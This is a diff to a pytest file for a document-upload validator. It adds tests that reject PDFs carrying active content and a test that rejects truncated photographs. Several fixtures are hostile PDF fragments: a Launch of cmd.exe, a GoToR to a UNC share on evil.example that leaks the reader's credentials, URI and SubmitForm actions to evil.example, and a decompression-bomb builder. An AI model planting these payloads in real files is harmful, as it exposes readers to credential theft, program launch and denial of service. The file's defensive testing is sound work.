@@ -9,7 +9,7 @@ from datetime import timedelta
 from io import BytesIO
 
 import pytest
-from PIL import Image
+from PIL import Image, ImageFile
 from pypdf import PdfWriter
 from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
@@ -167,13 +167,18 @@ SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
         (b"/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K " + SCRIPT + b">>>>]>>", b""),
         (b"/AcroForm<</Fields[]/XFA[(a)(b)]>>", b""),
         (b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>", b""),
+        (b"/OpenAction<</S 4 0 R/F(cmd.exe)>>", b""),
+        (b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>", b""),
+        (b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>", b""),
+        (b"", b"/AA<</O<</S/URI/URI(https://evil.example)>>>>"),
     ],
 )
 def test_a_pdf_that_runs_something_anywhere_else_is_not_taken(catalogue: bytes, page: bytes) -> None:
-    """On turning a page, on a click, after a harmless action, in a form field, under a disguised name."""
+    """On turning a page, on a click, after a harmless action, in a form field, under a disguised name, in an object of
+    its own; or as soon as it is opened leads elsewhere, where a share of somebody's asks for the reader's password."""
     examine(by_hand())
     with pytest.raises(BadUpload, match="含有程序"):
-        examine(by_hand(catalogue, page))
+        examine(by_hand(catalogue, page, b"/Launch"))
 
 
 def test_a_pdf_whose_objects_have_no_end_is_not_followed(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -199,9 +204,68 @@ def test_what_unpacks_to_gigabytes_is_not_unpacked() -> None:
     assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000
 
 
+def packed(parts: int, padding: int) -> bytes:
+    """A PDF whose catalogue names so many objects, each in a compressed part of its own that unpacks to so much."""
+    out, places = BytesIO(), {}
+    out.write(b"%PDF-1.7\n")
+
+    def put(number: int, content: bytes) -> None:
+        places[number] = out.tell()
+        out.write(b"%d 0 obj\n" % number + content + b"\nendobj\n")
+
+    put(1, b"<</Type/Catalog/Pages 2 0 R/X[" + b" ".join(b"%d 0 R" % (1000 + each) for each in range(parts)) + b"]>>")
+    put(2, b"<</Type/Pages/Count 1/Kids[3 0 R]>>")
+    put(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
+    for each in range(parts):
+        head = b"%d 0 " % (1000 + each)
+        content = zlib.compress(head + b"<</A 1>>" + b" " * padding, 9)
+        told = b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(head), len(content))
+        put(10 + each, told + content + b"\nendstream")
+    begins, size = out.tell(), 1001 + parts
+    lines = [
+        struct.pack(">BIH", 2, each - 990, 0)
+        if each >= 1000
+        else struct.pack(">BIH", each in places, places.get(each, 0), 0)
+        for each in range(size)
+    ]
+    table = zlib.compress(b"".join(lines))
+    told = b"<</Type/XRef/W[1 4 2]/Size %d/Root 1 0 R/Filter/FlateDecode/Length %d>>" % (size, len(table))
+    out.write(b"999 0 obj\n" + told + b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % begins)
+    return out.getvalue()
+
+
+def test_a_pdf_that_would_be_unpacked_for_minutes_is_read_apart_and_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
+    """700 kilobytes held a window for minutes and a gigabyte, as each compressed part of a file was unpacked there."""
+    monkeypatch.setattr(formats, "SECONDS", 2)
+    assert examine(packed(3, 0)).pages == 1
+    assert examine(packed(formats.MOST_PARTS + 1, 0)).pages == 1, "what is only large is read apart, and taken"
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    with pytest.raises(BadUpload, match="太复杂"):
+        examine(packed(3, 30_000_000))
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000
+
+
+def test_few_files_are_read_apart_at_once_and_others_are_asked_to_come_again(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(formats, "WAITS", 0)
+    with formats._ROOM, formats._ROOM, pytest.raises(BadUpload, match="过一会儿再送"):
+        examine(packed(formats.MOST_PARTS + 1, 0))
+
+
 def test_a_pdf_that_only_opens_at_a_page_or_has_a_file_within_is_taken() -> None:
     examine(pdf(action="/GoTo"))
+    examine(by_hand(page=b"/Annots[<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://court.example)>>>>]"))
     examine(pdf(names="/EmbeddedFiles"))
+
+
+def test_half_a_photograph_is_not_taken_for_a_whole_one_whatever_the_typesetter_would_do(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Once a paper had been typeset, photographs that had come in half were taken."""
+    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
+    whole = photo(size=(400, 300))
+    assert examine(whole).kind == "jpeg"
+    with pytest.raises(BadUpload, match="损坏"):
+        examine(whole[: len(whole) * 2 // 3])
 
 
 @pytest.mark.parametrize("data", [pdf(), photo(), photo("PNG")], ids=["pdf", "jpeg", "png"])
